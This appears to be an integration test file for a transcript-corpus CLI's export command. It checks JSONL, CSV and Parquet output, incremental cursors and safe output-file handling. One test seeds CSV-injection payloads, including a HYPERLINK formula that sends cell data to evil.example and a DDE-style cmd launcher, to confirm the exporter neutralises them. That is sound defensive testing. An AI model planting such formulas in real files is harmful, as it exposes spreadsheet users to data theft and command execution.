/**
 * `export` (issue #15, first "Done when" point), as a user runs it: the CLI as processes against
 * a corpus backfilled from the simulator over real HTTP, the output read back by independent
 * readers (JSON.parse, csv-parse, DuckDB for Parquet) and compared with the tables: texts byte
 * for byte, nulls as nulls. Then `--cursor`: after a sync that changed 3 transcripts and added 5
 * videos, the next run writes exactly those 8 records, and the one after none.
 */
import { spawnSync } from 'node:child_process';
import {
  chmodSync,
  lstatSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  readlinkSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { oldestNeededEventId } from '../../src/db/webhooks.ts';
import { expectCleanError, expectExit } from '../helpers/cli.ts';
import { createPipelineHarness, runCli, type CliResult, type PipelineHarness } from '../helpers/pipeline.ts';
import { startCli, waitUntil } from '../helpers/proc.ts';
import { admin } from '../helpers/sim-http.ts';

let h: PipelineHarness;
let dir: string;
/** the sources: one with timed chunks, one plain text (its chunks are null) */
let chunked: { sourceId: number; lang: string; ids: string[]; channelId: string };
let plainText: { sourceId: number; lang: string; ids: string[]; channelId: string };

const cli = (args: string[]): Promise<CliResult> => runCli(args, h.env, 60_000);

async function ok(args: string[]): Promise<CliResult> {
  const r = await cli(args);
  expectExit(r, 0);
  return r;
}

const backfill = (id: number, ...more: string[]) =>
  ok(['backfill', '--source', String(id), '--timeout', '45s', ...more]);

/** A channel as a source asking one language that every video of it has (a fallback delivery is another test's subject). */
async function channelSource(index: number, ...more: string[]) {
  const ch = h.sim.catalog.channels()[index]!;
  const ids = h.sim.catalog.videoIds(ch.id)!;
  const lang = h.sim.catalog.videoInfo(ids[0]!)!.transcriptLanguages[0]!;
  for (const id of ids) {
    const langs = h.sim.catalog.videoInfo(id)!.transcriptLanguages;
    if (!langs.includes(lang)) h.sim.catalog.editVideo(id, { transcriptLanguages: [lang, ...langs] });
  }
  await ok(['sources', 'add', 'channel', ch.handle, '--limit', '50', '--lang', lang, ...more]);
  const [row] = await h.database.sql<
    { id: number }[]
  >`select id from sources where ref = ${ch.handle} order by id desc limit 1`;
  return { sourceId: row!.id, lang, ids, channelId: ch.id };
}

beforeAll(async () => {
  h = await createPipelineHarness('export', {
    catalog: {
      channels: 2,
      channelSizes: [10, 6],
      shortsPerChannel: 0,
      livesPerChannel: 0,
      noTranscriptShare: 0,
      privateShare: 0,
      goneShare: 0,
    },
  });
  h.startWorkers(['poller', 'sink']);
  dir = mkdtempSync(join(tmpdir(), 'vsi-export-'));
  chunked = await channelSource(0);
  plainText = await channelSource(1, '--text');
  await backfill(chunked.sourceId);
  await backfill(plainText.sourceId);
}, 120_000);

afterAll(async () => {
  await h?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** What the tables hold, one row per transcript, in the export's order; timestamps as Postgres prints them (UTC, microseconds). */
interface Truth {
  video_id: string;
  title: string | null;
  description: string | null;
  duration_s: number | null;
  channel_id: string | null;
  channel_name: string | null;
  tags: string[] | null;
  thumbnail: string | null;
  upload_date: string | null;
  view_count: number | null;
  like_count: number | null;
  transcript_languages: string[] | null;
  lang: string;
  text: string;
  content_sha256: string;
  batch: string | null;
  delivered_at: string;
  origin: string;
  translated_from: string | null;
  chunks: { text: string; offset: number; duration: number; lang?: string }[] | null;
}

async function truth(where?: { sourceId?: number }): Promise<Truth[]> {
  const { sql } = h.database;
  const iso = (c: string) => sql.unsafe(`to_char(${c} at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')`);
  const source =
    where?.sourceId !== undefined
      ? sql`and t.video_id in (select video_id from source_videos where source_id = ${where.sourceId})`
      : sql``;
  return sql<Truth[]>`
    select t.video_id, v.title, v.description, v.duration_s, v.channel_id, v.channel_name, v.tags, v.thumbnail,
      ${iso('v.upload_date')} as upload_date, v.view_count::float8 as view_count, v.like_count::float8 as like_count,
      v.transcript_languages, t.lang, t.text, t.content_sha256, t.last_job_id as batch, ${iso('t.updated_at')} as delivered_at,
      t.origin, t.translated_from, t.chunks
    from transcripts t left join videos v on v.id = t.video_id
    where true ${source}
    order by t.video_id, t.lang`;
}

const withoutChunks = (rows: Truth[]) => rows.map(({ chunks: _c, ...rest }) => rest);

/** A cell a spreadsheet would run as a formula (OWASP, CSV injection): what the CSV writer prefixes with `'`. */
const FORMULA_LEAD = /^[=+\-@\t\r]/;
const neutralised = <T extends Record<string, unknown>>(rows: T[]): T[] =>
  rows.map(
    (r) =>
      Object.fromEntries(
        Object.entries(r).map(([k, v]) => [k, typeof v === 'string' && FORMULA_LEAD.test(v) ? `'${v}` : v]),
      ) as T,
  );

/** A CSV export read back: nulls as null, numbers as numbers, arrays parsed. */
function readCsv(path: string): Record<string, unknown>[] {
  const rows = parseCsv(readFileSync(path), {
    columns: true,
    // an unquoted empty field is a null; a quoted one a string (possibly empty)
    cast: (value, ctx) => (ctx.header ? value : ctx.quoting ? value : value === '' ? null : Number(value)),
  }) as Record<string, unknown>[];
  const arrays = ['tags', 'transcript_languages'];
  return rows.map((row) =>
    Object.fromEntries(
      Object.entries(row).map(([k, v]) => [k, arrays.includes(k) && v !== null ? JSON.parse(v as string) : v]),
    ),
  );
}

const readJsonl = (path: string) =>
  readFileSync(path, 'utf8')
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Record<string, unknown>);

async function duck<T>(query: string): Promise<T[]> {
  const db = await DuckDBInstance.create(':memory:');
  const c = await db.connect();
  try {
    return (await c.runAndReadAll(query)).getRowObjectsJson() as unknown as T[];
  } finally {
    c.closeSync();
  }
}

describe('export', () => {
  it('JSONL, with and without --chunks, equals the tables', async () => {
    const all = await truth();
    // the corpus has what the comparison must cover: both sources, nulls, plain-text transcripts
    expect(all.length).toBe(chunked.ids.length + plainText.ids.length);
    expect(all.some((r) => r.chunks === null)).toBe(true);
    expect(all.some((r) => r.chunks !== null && r.chunks.length > 1)).toBe(true);
    expect(
      all.some((r) => r.thumbnail === null || r.like_count === null || r.view_count === null || r.upload_date === null),
    ).toBe(true);

    const out = join(dir, 'all.jsonl');
    const r = await ok(['export', '--format', 'jsonl', '--out', out]);
    expect(r.stdout).toContain(`wrote ${all.length} records`);
    expect(readJsonl(out)).toEqual(withoutChunks(all));

    await ok(['export', '--format', 'jsonl', '--out', out, '--chunks']);
    expect(readJsonl(out)).toEqual(all);

    // stdout carries the data and nothing else; --source and --lang narrow it
    const s = await ok([
      'export',
      '--format',
      'jsonl',
      '--out',
      '-',
      '--source',
      String(plainText.sourceId),
      '--lang',
      plainText.lang,
    ]);
    const lines = s.stdout
      .split('\n')
      .filter((l) => l !== '')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toEqual(
      withoutChunks(await truth({ sourceId: plainText.sourceId })).filter((t) => t.lang === plainText.lang),
    );
    expect(lines.length).toBe(plainText.ids.length);
  });

  it('says how many stored videos it leaves out for having no transcript', async () => {
    // a stored video without a transcript (as one without captions is stored)
    await h.database.sql`
      insert into videos select (jsonb_populate_record(null::videos, to_jsonb(v) || '{"id": "noTranscr01"}')).*
      from videos v limit 1`;
    const [row] = await h.database.sql<{ n: number }[]>`
      select count(*)::int as n from videos v where not exists (select 1 from transcripts t where t.video_id = v.id)`;
    expect(row!.n).toBeGreaterThan(0);
    const r = await ok(['export', '--format', 'jsonl', '--out', join(dir, 'counted.jsonl')]);
    expect(r.stderr).toContain(`${row!.n} stored video(s) have no transcript and are not in the export`);
    await h.database.sql`delete from videos where id = 'noTranscr01'`;
  });

  it('CSV read by a CSV parser equals the tables: nulls empty, empty strings quoted, arrays as JSON', async () => {
    const all = withoutChunks(await truth());
    const out = join(dir, 'all.csv');
    await ok(['export', '--format', 'csv', '--out', out]);
    expect(readCsv(out)).toEqual(neutralised(all));
  });

  it("CSV: a cell a spreadsheet would run as a formula starts with ' (OWASP); --csv-raw-formulas writes it as stored", async () => {
    const { sql } = h.database;
    const [x, y] = chunked.ids;
    const saved = await sql<
      { id: string; title: string | null; description: string | null; channel_name: string | null }[]
    >`
      select id, title, description, channel_name from videos where id = any(${[x!, y!]}::text[])`;
    const [text] = await sql<
      { text: string }[]
    >`select text from transcripts where video_id = ${x!} and lang = ${chunked.lang}`;
    const cells = {
      x: {
        title: '=HYPERLINK("http://evil.example/?"&A1,"open")',
        description: "@SUM(1+1)*cmd|' /C calc'!A0",
        channel_name: '+1+1',
        text: '-2+3',
      },
      y: { title: '\t=1+1', description: '\r=2+2', channel_name: 'a=b, not at the start' },
    };
    await sql`update videos set title = ${cells.x.title}, description = ${cells.x.description}, channel_name = ${cells.x.channel_name} where id = ${x!}`;
    await sql`update videos set title = ${cells.y.title}, description = ${cells.y.description}, channel_name = ${cells.y.channel_name} where id = ${y!}`;
    await sql`update transcripts set text = ${cells.x.text} where video_id = ${x!} and lang = ${chunked.lang}`;
    try {
      const all = withoutChunks(await truth());
      const out = join(dir, 'formulas.csv');
      await ok(['export', '--format', 'csv', '--out', out]);
      const back = readCsv(out);
      expect(back).toEqual(neutralised(all));
      const rowOf = (rows: Record<string, unknown>[], id: string) =>
        rows.find((r) => r.video_id === id && r.lang === chunked.lang)!;
      expect(rowOf(back, x!)).toMatchObject({
        title: `'${cells.x.title}`,
        description: `'${cells.x.description}`,
        channel_name: `'${cells.x.channel_name}`,
        text: `'${cells.x.text}`,
      });
      expect(rowOf(back, y!)).toMatchObject({
        title: `'${cells.y.title}`,
        description: `'${cells.y.description}`,
        channel_name: cells.y.channel_name,
      });

      await ok(['export', '--format', 'csv', '--out', out, '--csv-raw-formulas']);
      const raw = readCsv(out);
      expect(raw).toEqual(all);
      expect(rowOf(raw, x!)).toMatchObject(cells.x);

      expectCleanError(
        await cli(['export', '--format', 'jsonl', '--out', out, '--csv-raw-formulas']),
        2,
        '--csv-raw-formulas',
        'csv',
      );
      const help = await ok(['export', '--help']);
      expect(help.stdout).toContain('--csv-raw-formulas');
      expect(help.stdout).toMatch(/formula/i);
      expect(help.stdout).toContain("'");
    } finally {
      for (const v of saved)
        await sql`update videos set title = ${v.title}, description = ${v.description}, channel_name = ${v.channel_name} where id = ${v.id}`;
      await sql`update transcripts set text = ${text!.text} where video_id = ${x!} and lang = ${chunked.lang}`;
    }
  });

  it('Parquet, with and without --chunks, read by DuckDB equals the tables', async () => {
    const all = await truth();
    const out = join(dir, 'all.parquet');
    await ok(['export', '--format', 'parquet', '--out', out, '--chunks']);
    const cols = `video_id, title, description, duration_s, channel_id, channel_name, tags, thumbnail,
      strftime(upload_date, '%Y-%m-%dT%H:%M:%S.%fZ') as upload_date, view_count::double as view_count, like_count::double as like_count,
      transcript_languages, lang, text, content_sha256, batch, strftime(delivered_at, '%Y-%m-%dT%H:%M:%S.%fZ') as delivered_at,
      origin, translated_from`;
    type Chunk = { text: string; offset: number; duration: number; lang: string | null };
    const rows = await duck<Omit<Truth, 'chunks'> & { chunks: Chunk[] | null }>(
      `select ${cols}, chunks from read_parquet('${out}') order by video_id, lang`,
    );
    // a chunk without a lang reads back with lang null (a struct has every field)
    const stored = all.map((t) => ({
      ...t,
      chunks: t.chunks === null ? null : t.chunks.map((c) => ({ lang: null, ...c })),
    }));
    expect(rows).toEqual(stored);
    const types = await duck<{ column_name: string; column_type: string }>(
      `describe select * from read_parquet('${out}')`,
    );
    expect(Object.fromEntries(types.map((t) => [t.column_name, t.column_type]))).toMatchObject({
      tags: 'VARCHAR[]',
      view_count: 'BIGINT',
      upload_date: 'TIMESTAMP',
      duration_s: 'DOUBLE',
      chunks: 'STRUCT("text" VARCHAR, "offset" DOUBLE, duration DOUBLE, lang VARCHAR)[]',
    });

    await ok(['export', '--format', 'parquet', '--out', out]);
    expect(await duck(`select ${cols} from read_parquet('${out}') order by video_id, lang`)).toEqual(
      withoutChunks(all),
    );
  });

  it('--cursor writes only what changed since its last run: 3 changed transcripts and 5 new videos, then nothing', async () => {
    const { sql } = h.database;
    const out = join(dir, 'cursor.jsonl');
    const first = await ok(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c1']);
    expect(readJsonl(out).length).toBe((await truth()).length);
    expect(first.stdout).toContain('cursor c1 created');
    const [maxEvent] = await sql<{ id: number }[]>`select max(id)::float8 as id from events`;
    const [cursor] = await sql<
      { id: number; records: number }[]
    >`select last_event_id::float8 as id, records::int from export_cursors where name = 'c1'`;
    expect(cursor).toEqual({ id: maxEvent!.id, records: (await truth()).length });
    // prune keeps what the cursor will read next (no webhook endpoint here holds any)
    expect(await oldestNeededEventId(sql)).toBe(maxEvent!.id + 1);

    // the platform changes: 3 transcripts re-uploaded, 5 new uploads, in the chunked source's channel
    const changed = chunked.ids.slice(0, 3);
    for (const id of changed) h.sim.catalog.editVideo(id, { transcriptRevisions: { [chunked.lang]: 1 } });
    const added = await admin(h.sim, 'POST', `/catalog/${chunked.channelId}/videos`, { count: 5 });
    expect(added.status).toBe(200);
    const fresh = (added.json as { videoIds: string[] }).videoIds;
    expect(fresh.length).toBe(5);
    for (const id of fresh) {
      const langs = h.sim.catalog.videoInfo(id)!.transcriptLanguages;
      if (!langs.includes(chunked.lang)) h.sim.catalog.editVideo(id, { transcriptLanguages: [chunked.lang, ...langs] });
    }
    await backfill(chunked.sourceId, '--refresh');

    // every event past its retention: prune deletes those before the cursor, keeps those after
    await sql`update events set occurred_at = now() - interval '400 days'`;
    await ok(['prune']);
    const [left] = await sql<
      { min: number; n: number }[]
    >`select min(id)::float8 as min, count(*)::int as n from events`;
    expect(left).toEqual({ min: cursor!.id + 1, n: expect.any(Number) });
    expect(left!.n).toBeGreaterThan(0);

    await ok(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c1', '--chunks']);
    const second = readJsonl(out);
    const expected = (await truth()).filter((t) => [...changed, ...fresh].includes(t.video_id));
    expect(second.map((r) => [r.video_id, r.lang]).sort()).toEqual(
      [...changed, ...fresh].map((id) => [id, chunked.lang]).sort(),
    );
    expect(second).toEqual(expected);

    const third = await ok(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c1']);
    expect(readJsonl(out)).toEqual([]);
    expect(third.stdout).toContain('wrote 0 records');

    // another name starts from the beginning
    await ok(['export', '--format', 'csv', '--out', join(dir, 'c2.csv'), '--cursor', 'c2']);
    expect((parseCsv(readFileSync(join(dir, 'c2.csv')), { columns: true }) as unknown[]).length).toBe(
      (await truth()).length,
    );
  }, 90_000);

  it('--since writes only records changed at or after the time', async () => {
    const { sql } = h.database;
    // the latest change of any record: the boundary itself is included (>=), microseconds count
    const [mid] = await sql<{ t: string }[]>`
      select to_char(max(greatest(t.updated_at, v.updated_at)) at time zone 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"') as t
      from transcripts t left join videos v on v.id = t.video_id`;
    const r = await ok(['export', '--format', 'jsonl', '--out', '-', '--since', mid!.t]);
    const got = r.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { video_id: string; lang: string });
    const want = await sql<{ video_id: string; lang: string }[]>`
      select t.video_id, t.lang from transcripts t left join videos v on v.id = t.video_id
      where t.updated_at >= ${mid!.t}::text::timestamptz or v.updated_at >= ${mid!.t}::text::timestamptz order by 1, 2`;
    expect(want.length).toBeGreaterThan(0);
    expect(want.length).toBeLessThan((await truth()).length);
    expect(got.map((g) => [g.video_id, g.lang])).toEqual(want.map((w) => [w.video_id, w.lang]));
  });

  it('refuses bad usage with exit 2, naming the option, the value and what is valid; a failed run moves no cursor', async () => {
    const out = join(dir, 'x.jsonl');
    expectCleanError(
      await cli(['export', '--format', 'xml', '--out', out]),
      2,
      '--format',
      'xml',
      'jsonl, parquet, csv',
    );
    expectCleanError(await cli(['export', '--format', 'jsonl']), 2, '--out');
    expectCleanError(
      await cli(['export', '--format', 'jsonl', '--out', out, '--since', 'notadate']),
      2,
      '--since',
      'notadate',
      'ISO 8601',
    );
    expectCleanError(await cli(['export', '--format', 'csv', '--out', out, '--chunks']), 2, '--chunks', 'csv');
    expectCleanError(
      await cli(['export', '--format', 'jsonl', '--out', out, '--cursor', 'c9', '--since', '2024-01-01']),
      2,
      '--cursor',
      '--since',
    );
    expectCleanError(await cli(['export', '--format', 'jsonl', '--out', out, '--source', '9999']), 2, 'source 9999');
    expectCleanError(
      await cli(['export', '--format', 'jsonl', '--out', join(dir, 'no', 'such', 'dir.jsonl'), '--cursor', 'c9']),
      2,
      '--out',
      'cannot write',
    );
    expectCleanError(await cli(['export', '--format', 'jsonl', '--out', dir]), 2, '--out', 'directory');
    const [c9] = await h.database.sql`select 1 from export_cursors where name = 'c9'`;
    expect(c9).toBeUndefined();
  });
});

describe('the output file (issue #27)', () => {
  /** A directory of its own per test: what is in it afterwards is what the export left. */
  const fresh = (name: string) => mkdtempSync(join(dir, `${name}-`));
  const names = (d: string) => readdirSync(d).sort();

  it('refuses a symbolic link as --out, exit 2 naming it, and writes nothing through it (nor a dangling one)', async () => {
    const d = fresh('symlink');
    const victim = join(d, 'precious.txt');
    writeFileSync(victim, 'precious\n');
    const link = join(d, 'export.jsonl');
    symlinkSync(victim, link);
    const r = await cli(['export', '--format', 'jsonl', '--out', link]);
    expectCleanError(r, 2, `--out ${link}`, 'symbolic link', 'nothing was written');
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(readlinkSync(link)).toBe(victim);
    expect(names(d)).toEqual(['export.jsonl', 'precious.txt']);

    const dangling = join(d, 'dangling.jsonl');
    symlinkSync(join(d, 'not-yet.txt'), dangling);
    expectCleanError(
      await cli(['export', '--format', 'csv', '--out', dangling]),
      2,
      `--out ${dangling}`,
      'symbolic link',
    );
    expect(names(d)).toEqual(['dangling.jsonl', 'export.jsonl', 'precious.txt']);
  });

  it('refuses a FIFO, a socket and a device as --out, exit 2 at once (never opening them), and leaves them be', async () => {
    const d = fresh('special');
    const fifo = join(d, 'pipe');
    expect(spawnSync('mkfifo', [fifo]).status).toBe(0);
    const socketPath = join(d, 'sock');
    const server: Server = createServer();
    await new Promise<void>((resolve) => server.listen(socketPath, resolve));
    // a device node like /dev/null, where this machine allows making one (root)
    const device = join(d, 'null');
    const madeDevice = spawnSync('mknod', [device, 'c', '1', '3']).status === 0;
    try {
      const cases: [string, string][] = [
        [fifo, 'a FIFO'],
        [socketPath, 'a socket'],
        ...(madeDevice ? [[device, 'a character device'] as [string, string]] : []),
      ];
      for (const [path, what] of cases) {
        // a process that opened the FIFO would wait for a reader: the timeout would kill it (exit null)
        const r = await runCli(['export', '--format', 'jsonl', '--out', path], h.env, 30_000);
        expectCleanError(r, 2, `--out ${path}`, what, 'not a regular file', 'nothing was written');
      }
      expect(lstatSync(fifo).isFIFO()).toBe(true);
      expect(lstatSync(socketPath).isSocket()).toBe(true);
      if (madeDevice) expect(lstatSync(device).isCharacterDevice()).toBe(true);
      expect(names(d)).toEqual([...(madeDevice ? ['null'] : []), 'pipe', 'sock']);
    } finally {
      await new Promise((resolve) => server.close(resolve));
    }
  });

  it("keeps an existing file's mode (0600 stays 0600); a new file gets the usual mode", async () => {
    const d = fresh('mode');
    for (const mode of [0o600, 0o640]) {
      const out = join(d, `m${mode.toString(8)}.jsonl`);
      writeFileSync(out, 'old\n');
      chmodSync(out, mode);
      await ok(['export', '--format', 'jsonl', '--out', out]);
      expect(statSync(out).mode & 0o7777, out).toBe(mode);
      expect(readJsonl(out).length).toBe((await truth()).length);
    }
    const created = join(d, 'new.jsonl');
    await ok(['export', '--format', 'jsonl', '--out', created]);
    // the child inherits this process's umask
    const umask = process.umask();
    expect(statSync(created).mode & 0o7777).toBe(0o666 & ~umask);
  });

  it('SIGTERM or SIGINT mid-export removes the temporary file (a random name, 0600) and leaves the old output in place', async () => {
    const { sql } = h.database;
    const d = fresh('signal');
    const out = join(d, 'corpus.jsonl');
    writeFileSync(out, 'the previous export\n');
    const temps: string[] = [];
    for (const signal of ['SIGTERM', 'SIGINT'] as const) {
      // another session holds transcripts: the export opens its file, then waits on its query
      const locker = await sql.reserve();
      await locker`begin`;
      await locker`lock table transcripts in access exclusive mode`;
      const p = startCli(['export', '--format', 'jsonl', '--out', out], h.env);
      try {
        const temp = await waitUntil(
          () => {
            if (!p.running()) throw new Error(`export ended before its file was open:\n${p.stderr()}`);
            return names(d).find((n) => n !== 'corpus.jsonl');
          },
          30_000,
          'the temporary file',
        );
        temps.push(temp);
        // beside the output, hidden, named by chance: not `.corpus.jsonl.<pid>.partial`
        expect(temp).toMatch(/^\.corpus\.jsonl\.[0-9a-f]{16,}\.partial$/);
        expect(temp).not.toContain(`.${p.pid}.`);
        expect(statSync(join(d, temp)).mode & 0o777).toBe(0o600);
        p.kill(signal);
        const exit = await p.exited;
        expect(exit.signal ?? exit.code, signal).toBe(signal);
        expect(p.stderr()).toContain('interrupted');
        expect(names(d)).toEqual(['corpus.jsonl']);
        expect(readFileSync(out, 'utf8')).toBe('the previous export\n');
      } finally {
        p.kill('SIGKILL');
        await locker`rollback`;
        locker.release();
      }
    }
    expect(temps[0]).not.toBe(temps[1]);
  });
});
